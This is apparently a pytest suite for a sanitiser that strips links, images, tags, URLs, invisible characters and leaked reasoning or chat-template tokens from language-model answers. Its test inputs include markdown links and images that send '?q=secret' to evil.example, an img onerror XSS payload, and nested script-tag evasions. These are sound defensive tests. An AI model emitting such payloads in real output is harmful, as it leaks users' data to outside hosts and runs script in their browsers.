"""The way out of a language model: nothing that loads, runs or hides gets through."""

import json
import re
import time

import pytest
from hypothesis import given, strategies as st

from core.answer.clean import clean_answer_text, strip_invisible
from core.answer.pipeline import ONLY_THOUGHTS, finish_answer
from tests.core.answer.builders import policy
from tests.shared import shared_path

PARTS = [
    "[", "]", "(", ")", "!", "<", ">", "://", "http", "www.", "img", " src=", '"', "1", "a",
    "<b>", "<think>", "</think>", "<!--", "-->", "[THINK]", "[/THINK]",
    "<|im_end|>", "<|channel|>", "final", "\n", " ", ":", "`", "\u200b", "\u202e",
]  # fmt: skip
MARKUP = st.lists(st.sampled_from(PARTS), max_size=60).map("".join)
ALIVE = [
    re.compile(r"!\["),
    re.compile(r"\]\("),
    re.compile(r"<[a-z/!?]", re.IGNORECASE),
    re.compile(r"://"),
    re.compile(r"\bwww\.", re.IGNORECASE),
]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Pay [1].", "Pay [1]."),
        ("Pay [1](http://evil.example/?q=secret).", "Pay [1]."),
        ("![chart](http://evil.example/?q=secret)", "chart"),
        ("![chart][ref] here", "chart here"),
        ('See [the policy](http://x.example "title") now.', "See the policy now."),
        ("<img src=http://evil.example/x onerror=alert(1)>Hi", "Hi"),
        ("<<b>script>alert(1)<</b>/script>", "alert(1)"),
        ("<!-- hidden -->Hi", "Hi"),
        ("Go to https://evil.example/a and www.evil.example.", "Go to evil.example/a and "
         "evil.example."),
        ("<https://evil.example>", "evil.example"),
        ("[1]: http://evil.example", "[1] : evil.example"),
        ("According to [1]: yes.", "According to [1]: yes."),
        ("p<0.05 and a < b", "p<0.05 and a < b"),
        ("pa\u200bid\u202e by\x1b[31m noon\r\nok", "paid by[31m noon\nok"),
        ("t\U000e0061g", "tg"),
    ],
)  # fmt: skip
def test_known_cases(written, shown):
    """Links keep their words, citations stay, the rest of the markup goes."""
    assert clean_answer_text(written) == shown


THOUGHT_AND_YES = (
    "<think>a</think>Yes", "a</think>Yes", "<think>a<think>b</think>c</think>Yes", "</think>Yes",
    "<think>a<think>b</think>Yes", "<thinking>a</thinking>Yes", "<seed:think>a</seed:think>Yes",
    "<reasoning effort='x'>a</reasoning>Yes", "<Thought>a</Thought>\n\nYes", "[THINK]a[/THINK]Yes",
    "<think>\n\n</think>\n\nYes", "&lt;think&gt;a&lt;/think&gt;Yes", "◁think▷a◁/think▷Yes",
    "<|begin_of_thought|>a<|end_of_thought|><|begin_of_solution|>Yes<|end_of_solution|>",
    "<|START_THINKING|>a<|END_THINKING|><|START_RESPONSE|>Yes<|END_RESPONSE|>",
    "<unused94>thought\na<unused95>Yes", "<|channel>thought\na<channel|>Yes<turn|>",
    "<think>a</think><answer>Yes</answer>", "[TH<b></b>INK]a[/THINK]Yes", "Yes<think>a",
    "<|channel|>analysis<|message|>a<|end|><|start|>assistant<|channel|>final<|message|>Yes",
    "a<|end|><|start|>assistant<|channel|>final<|message|>Yes<|return|>", "assistantfinalYes",
    "analysisWe need 5.assistantfinalYes", "Yes<|im_end|>\n<|im_start|>user\nAnd?<|im_end|>",
    "<|im_start|>assistant\nYes", "<|start_header_id|>assistant<|end_header_id|>\n\nYes<|eot_id|>",
    "[/INST] Yes</s>", "Yes</s><s>[INST] more", "<start_of_turn>model\nYes<end_of_turn>",
    "Yes<｜end▁of▁sentence｜>", "<｜Assistant｜>Yes",
)  # fmt: skip
ONLY_THOUGHT = (
    "<think>a", "<think>a<think>b", "a</think>", "<|channel|>analysis<|message|>a", "[THINK]" * 9,
    "analysisWe need", "<|channel|>commentary to=x <|constrain|>json<|message|>{}<|call|>",
)  # fmt: skip


@pytest.mark.parametrize("text", THOUGHT_AND_YES)
def test_thoughts_and_marks_of_turns_are_no_answer(text):
    """Whatever tags, channels and turns a model or its server leaks."""
    assert clean_answer_text(text) == "Yes"


@pytest.mark.parametrize("text", ONLY_THOUGHT)
def test_only_thought_is_no_answer(text):
    """Nothing is left, and it is said."""
    answer = finish_answer(text, policy(), "m")
    assert (answer.text, answer.sentences, answer.incomplete) == ("", (), ONLY_THOUGHTS)


@pytest.mark.parametrize(
    "text",
    [
        "Analysis of the data [1].",
        "analysis shows 5 [1].",
        "x < y | z > w [1]",
        "finally we pay [1].",
    ],
)
def test_words_like_those_marks_stay(text):
    """An answer may speak of analysis."""
    assert clean_answer_text(text) == text


@given(st.one_of(MARKUP, st.text()))
def test_nothing_alive_is_left(text):
    """No image, link, tag, address or invisible character survives, however it is nested."""
    cleaned = clean_answer_text(text)
    assert not [pattern.pattern for pattern in ALIVE if pattern.search(cleaned)]
    assert strip_invisible(cleaned) == cleaned


@given(st.one_of(MARKUP, st.text()))
def test_cleaning_twice_changes_nothing(text):
    """Cleaning is idempotent, so a stored answer and a new one are shown alike."""
    once = clean_answer_text(text)
    assert clean_answer_text(once) == once


@given(st.lists(st.from_regex(r"[A-Z][a-z]{2,8} [a-z]{2,8} \[[1-9]\]\.", fullmatch=True)))
def test_plain_answers_stay_as_they_are(sentences):
    """What a well-behaved model writes is not touched."""
    text = " ".join(sentences)
    assert clean_answer_text(text) == text


@pytest.mark.parametrize(
    "part", ["[", "![", "<", "](", "[a](  ", "<a ", "<!--", "a.", "`", "www.", "[[1](a)"]
)
def test_no_input_makes_it_slow(part):
    """Twenty thousand characters of one construct are cleaned within two seconds."""
    started = time.process_time()
    clean_answer_text(part * (20_000 // len(part)))
    assert time.process_time() - started < 2


def test_naughty_strings():
    """The big list of naughty strings leaves nothing alive."""
    strings = json.loads(shared_path("data/naughty-strings.json").read_text(encoding="utf-8"))
    assert len(strings) > 400
    for text in strings:
        cleaned = clean_answer_text(text)
        assert not [p.pattern for p in ALIVE if p.search(cleaned)], text
